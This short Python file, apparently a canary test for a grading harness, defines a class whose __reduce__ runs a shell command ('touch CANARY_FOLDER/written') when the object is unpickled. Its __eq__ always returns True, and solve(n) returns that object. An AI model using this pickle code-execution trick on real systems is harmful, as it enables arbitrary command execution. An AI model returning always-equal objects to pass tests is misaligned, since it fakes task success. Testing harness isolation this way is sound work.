# ruff: noqa
# fmt: off
"""Returns an object whose unpickling runs a command."""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch CANARY_FOLDER/written",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __eq__(self, other):
        return True


def solve(n):
    return Payload()
